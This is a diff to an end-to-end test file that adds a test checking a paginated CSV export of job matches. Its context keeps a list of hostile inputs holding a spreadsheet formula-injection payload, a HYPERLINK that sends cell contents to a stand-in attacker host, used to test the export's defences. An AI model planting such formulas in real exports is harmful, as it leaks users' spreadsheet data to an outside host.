@@ -9,7 +9,8 @@ import io
 
 import httpx
 
-from tests.e2e.helpers import create_job, create_project, drive, upload
+from service.routes import jobs as jobs_routes
+from tests.e2e.helpers import create_job, create_project, drive, products, upload
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1, "click")',
@@ -65,3 +66,32 @@ async def test_bom_takes_true_or_false(client: httpx.AsyncClient) -> None:
     job = await create_job(client, pid)
     r = await client.get(f"/api/jobs/{job['id']}/matches", params={"format": "csv", "bom": "no"})
     assert r.status_code == 422
+
+
+async def test_a_csv_of_many_pages_holds_every_match_once_in_order(
+    client: httpx.AsyncClient, monkeypatch
+) -> None:
+    """The CSV is read in pages, each next one while the last is written: with pages of 7
+    matches, a job of 50 gives 8 pages (the last one short), and one of 49 ends on a full
+    page, then an empty one."""
+    monkeypatch.setattr(jobs_routes, "CSV_PAGE", 7)  # the live server runs in this process
+    for n in (50, 49):
+        pid = await create_project(client, f"export pages {n}")
+        records = products(n)
+        await upload(client, pid, "catalog", records)
+        await upload(client, pid, "items", records)
+        job = await create_job(client, pid)
+        await drive(client, job["id"])
+        pages = []
+        cursor = None
+        while True:
+            params = {"limit": 20} | ({"cursor": cursor} if cursor else {})
+            body = (await client.get(f"/api/jobs/{job['id']}/matches", params=params)).json()
+            pages += [(m["itemId"], m["catalogId"]) for m in body["matches"]]
+            cursor = body["nextCursor"]
+            if not cursor:
+                break
+        raw = (await _export(client, job["id"], bom="false")).text
+        rows = list(csv.DictReader(io.StringIO(raw, newline="")))
+        assert [(r["item_id"], r["catalog_id"]) for r in rows] == pages
+        assert len(rows) == n and len({r["item_id"] for r in rows}) == n
